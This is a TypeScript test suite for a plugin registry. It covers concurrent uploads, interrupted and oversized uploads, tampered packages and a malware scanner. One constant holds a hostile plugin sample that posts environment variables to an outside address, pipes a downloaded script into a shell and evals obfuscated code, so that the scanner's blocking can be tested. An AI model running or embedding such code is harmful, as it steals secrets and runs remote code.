import assert from "node:assert/strict";
import { readFile, readdir, rm, writeFile } from "node:fs/promises";
import { connect } from "node:net";
import { join } from "node:path";
import test from "node:test";
import { gunzipSync } from "node:zlib";

import { pluginIndexSchema } from "@berth/spec";
import { generatePublisherKey } from "@berth/trust";

import { eventually, makePackage, withRegistry } from "../fixture.ts";
import type { Answer, TestRegistry } from "../fixture.ts";
import { testOnEveryStore } from "../stores.ts";

const RELEASE = "api/v1/packages/acme/csv-tools/1.0.0";

const put = (registry: TestRegistry, token: string, body: Uint8Array<ArrayBuffer>, path = RELEASE): Promise<Answer> =>
  registry.ask(path, { method: "PUT", token, body });

/** Nothing of a refused upload may be left, neither to see nor on the disk. */
async function verifyNothingIsLeft(registry: TestRegistry): Promise<void> {
  assert.equal((await registry.ask("index/plugins/acme/csv-tools.json")).body.code, "REGISTRY_PLUGIN_UNKNOWN");
  assert.equal((await registry.ask("api/v1/plugins?q=csv")).body.total.count, 0);
  assert.ok(
    (await registry.ask("api/v1/changes")).body.items.every(({ kind }: { kind: string }) => kind === "publisher"),
  );
  await eventually(async () => (await readdir(join(registry.dataDir, "uploads"))).length === 0);
}

testOnEveryStore("of many publishes of one release at once exactly one wins", async (registry) => {
  const token = await registry.addPublisher("acme");
  const contents = Array.from({ length: 6 }, (_, at) =>
    makePackage({ code: `var berthPlugin = { actions: {} }; // ${at}` }),
  );
  const answers = await Promise.all(contents.map((bytes) => put(registry, token, bytes)));
  assert.deepEqual(
    answers.map(({ status }) => status).toSorted((a, b) => a - b),
    [201, 409, 409, 409, 409, 409],
  );
  assert.ok(answers.every(({ status, body }) => status === 201 || body.code === "REGISTRY_RELEASE_EXISTS"));
  const winner = contents[answers.findIndex(({ status }) => status === 201)];
  const file = await registry.ask("packages/acme/csv-tools/acme.csv-tools-1.0.0.berth");
  assert.deepEqual(file.bytes, winner);
  const same = await Promise.all([1, 2, 3].map(() => put(registry, token, winner as Uint8Array<ArrayBuffer>)));
  assert.deepEqual(
    same.map(({ status }) => status),
    [200, 200, 200],
  );
  const feed = (await registry.ask("api/v1/changes")).body.items as { kind: string }[];
  assert.equal(feed.filter(({ kind }) => kind === "publish").length, 1);
});

test("the same file sent several times at once is one release", () =>
  withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const answers = await Promise.all([1, 2, 3, 4].map(() => put(registry, token, makePackage())));
    assert.deepEqual(
      answers.map(({ status }) => status).toSorted((a, b) => a - b),
      [200, 200, 200, 201],
    );
    assert.equal(new Set(answers.map(({ body }) => body.sequence)).size, 1);
  }));

/** Sends the head of an upload and some bytes of its body over a bare connection; gives what was answered until its end. */
async function sendPart(
  registry: TestRegistry,
  { token, length, body, end }: { token: string; length: number; body: Uint8Array; end: boolean },
): Promise<string> {
  const { port } = new URL(registry.url);
  const socket = connect(Number(port), "127.0.0.1");
  const head = [
    `PUT /${RELEASE} HTTP/1.1`,
    "host: registry",
    `authorization: Bearer ${token}`,
    "content-type: application/vnd.berth.package",
    `content-length: ${length}`,
  ];
  socket.write(`${head.join("\r\n")}\r\n\r\n`);
  socket.write(body);
  if (end) socket.end();
  let answer = "";
  socket.setEncoding("utf8").on("data", (text: string) => (answer += text));
  await new Promise((resolve) => socket.once("close", resolve).once("error", resolve));
  return answer;
}

test("an upload that is cut half-way leaves nothing", () =>
  withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const bytes = makePackage();
    for (const share of [0, 0.1, 0.5, 0.99]) {
      const body = bytes.subarray(0, Math.floor(bytes.length * share));
      await sendPart(registry, { token, length: bytes.length, body, end: true });
      await verifyNothingIsLeft(registry);
    }
    assert.equal((await put(registry, token, bytes)).status, 201);
  }));

test("an upload that stalls is ended, and so is one that only trickles", () =>
  withRegistry(
    async (registry) => {
      const token = await registry.addPublisher("acme");
      const answer = await sendPart(registry, { token, length: 5_000, body: new Uint8Array(10), end: false });
      assert.match(answer, /^HTTP\/1\.1 408 .*HTTP_BODY_INCOMPLETE/s);
      const { port } = new URL(registry.url);
      const socket = connect(Number(port), "127.0.0.1").on("error", () => undefined);
      socket.write(
        `PUT /${RELEASE} HTTP/1.1\r\nhost: r\r\nauthorization: Bearer ${token}\r\ncontent-type: application/octet-stream\r\ncontent-length: 5000\r\n\r\n`,
      );
      const trickle = setInterval(() => socket.write("x"), 100);
      // The whole upload has a limit too: without one it would go on for ever.
      await new Promise((resolve) => socket.once("close", resolve).resume());
      clearInterval(trickle);
      await verifyNothingIsLeft(registry);
    },
    { uploadStallMs: 300, uploadTotalMs: 1_000 },
  ));

test("too large a body is refused, whether its length is announced or not", () =>
  withRegistry(
    async (registry) => {
      const token = await registry.addPublisher("acme");
      const large = new Uint8Array(300_000);
      const announced = await put(registry, token, large);
      assert.deepEqual([announced.status, announced.body.code], [413, "HTTP_BODY_TOO_LARGE"]);
      const response = await fetch(`${registry.url}/${RELEASE}`, {
        method: "PUT",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/octet-stream" },
        body: new Blob([large]).stream(),
        duplex: "half",
      } as RequestInit & { duplex: "half" });
      assert.equal(response.status, 413);
      assert.equal(((await response.json()) as { code: string }).code, "HTTP_BODY_TOO_LARGE");
      await verifyNothingIsLeft(registry);
    },
    { maxPackageBytes: 100_000 },
  ));

/** Deflate has bits that nothing reads (codes never used, the padding of the last byte): they change no content. */
function isSameArchive(changed: Uint8Array, original: Uint8Array): boolean {
  try {
    return gunzipSync(changed).equals(gunzipSync(original));
  } catch {
    return false;
  }
}

test("a package is refused when one bit of its content changed, wherever", () =>
  withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const bytes = makePackage();
    for (let at = 0; at < bytes.length; at += Math.ceil(bytes.length / 60)) {
      const changed = Uint8Array.from(bytes);
      changed[at] = (changed[at] as number) ^ (1 << (at % 8));
      if (isSameArchive(changed, bytes)) continue;
      const { status, body } = await put(registry, token, changed);
      assert.ok(status >= 400 && status < 500, `byte ${at}: ${status}`);
      assert.match(body.code, /^(?:ARCHIVE|SPEC|TRUST|REGISTRY)_/, `byte ${at}`);
    }
    await verifyNothingIsLeft(registry);
  }));

test("a package that is not what it was sent as is refused by name", () =>
  withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const code = async (body: Uint8Array<ArrayBuffer>) => (await put(registry, token, body)).body.code as string;
    assert.equal(await code(makePackage({ version: "1.0.1" })), "REGISTRY_PACKAGE_MISMATCH");
    assert.equal(await code(makePackage({ id: "acme.other" })), "REGISTRY_PACKAGE_MISMATCH");
    assert.equal(await code(makePackage({ id: "globex.csv-tools" })), "REGISTRY_PACKAGE_MISMATCH");
    assert.equal(await code(makePackage({ key: null })), "REGISTRY_PACKAGE_UNSIGNED");
    assert.equal(await code(makePackage({ key: generatePublisherKey() })), "REGISTRY_KEY_NOT_ENROLLED");
    assert.equal(await code(makePackage({ time: "2126-01-01T00:00:00.000Z" })), "TRUST_STATEMENT_FROM_FUTURE");
    assert.equal(
      await code(makePackage({ manifest: { runtime: { kind: "javascript", entry: "none.js" } } })),
      "SPEC_MANIFEST_INVALID",
    );
    assert.equal(await code(new Uint8Array(0)), "ARCHIVE_PACKAGE_INVALID");
    const asJson = await registry.ask(RELEASE, { method: "PUT", token, body: { a: 1 } });
    assert.equal(asJson.body.code, "HTTP_REQUEST_INVALID");
    assert.equal((await registry.ask(RELEASE, { method: "PUT", token })).body.code, "HTTP_REQUEST_INVALID");
    await verifyNothingIsLeft(registry);
  }));

const HOSTILE_CODE = `const cp = require("child_process"); const { env } = process;
fetch("http://198.51.100.7/collect", { method: "POST", body: JSON.stringify(env) });
cp.exec("curl -s http://198.51.100.7/x.sh | sh");
eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp", "base64").toString());
var berthPlugin = { actions: {} };`;

test("what the scanner blocks is refused with its findings, unless the operator says otherwise", async () => {
  await withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const { status, body } = await registry.publish({ token, code: HOSTILE_CODE });
    assert.deepEqual([status, body.code, body.details.verdict], [403, "REGISTRY_SCAN_REFUSED", "block"]);
    assert.ok(body.details.findings.length > 0);
    await verifyNothingIsLeft(registry);
  });
  await withRegistry(
    async (registry) => {
      const token = await registry.addPublisher("acme");
      assert.equal((await registry.publish({ token, code: HOSTILE_CODE })).status, 201);
      const index = pluginIndexSchema.parse((await registry.ask("index/plugins/acme/csv-tools.json")).body);
      assert.equal(index.releases[0]?.scan?.verdict, "block");
    },
    { refuse: "" },
  );
});

test("a package file that is missing or damaged is named and never served", () =>
  withRegistry(async (registry) => {
    const token = await registry.addPublisher("acme");
    const { body } = await registry.publish({ token });
    const hex = (body.fileDigest as string).replace("sha256:", "");
    const path = join(registry.dataDir, "blobs", hex.slice(0, 2), hex);
    const intact = await readFile(path);
    const url = "packages/acme/csv-tools/acme.csv-tools-1.0.0.berth";
    await rm(path);
    const missing = await registry.ask(url);
    assert.deepEqual([missing.status, missing.body.code], [500, "REGISTRY_BLOB_MISSING"]);
    assert.ok(missing.body.detail.includes(hex));
    await writeFile(path, Uint8Array.from(intact).fill(7, 20, 30));
    const damaged = await registry.ask(url);
    assert.deepEqual([damaged.status, damaged.body.code], [500, "REGISTRY_BLOB_DAMAGED"]);
    await writeFile(path, intact);
    assert.equal((await registry.ask(url)).status, 200);
  }));
